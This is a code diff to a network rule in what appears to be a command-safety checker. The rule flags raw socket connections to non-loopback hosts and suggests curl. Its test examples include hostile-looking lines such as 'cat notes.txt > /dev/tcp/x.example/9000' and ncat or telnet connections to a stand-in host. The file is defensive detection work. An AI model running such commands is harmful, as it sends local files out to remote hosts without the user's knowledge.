@@ -99,11 +99,16 @@ export const network: HazardPack = {
       advice: 'Use a client that shows what it sends, such as curl.',
       safer: 'curl https://example.com',
       examples: {
-        match: ['exec 3<>/dev/tcp/x.example/80', 'cat notes.txt > /dev/tcp/x.example/9000'],
-        not_match: ['exec 3<>/dev/tcp/127.0.0.1/5432', 'curl https://example.com'],
+        match: ['exec 3<>/dev/tcp/x.example/80', 'cat notes.txt > /dev/tcp/x.example/9000', 'ncat x.example 9000', 'telnet x.example 25'],
+        not_match: [
+          'exec 3<>/dev/tcp/127.0.0.1/5432',
+          'curl https://example.com',
+          'nc localhost 8080',
+          'openssl s_client -connect example.com:443',
+        ],
       },
       verbs: ['send', 'fetch'],
-      actions: ['net:socket'],
+      actions: ['net:socket', 'net:connect'],
       when: ({ target }) => target.scope !== 'loopback',
     },
     {
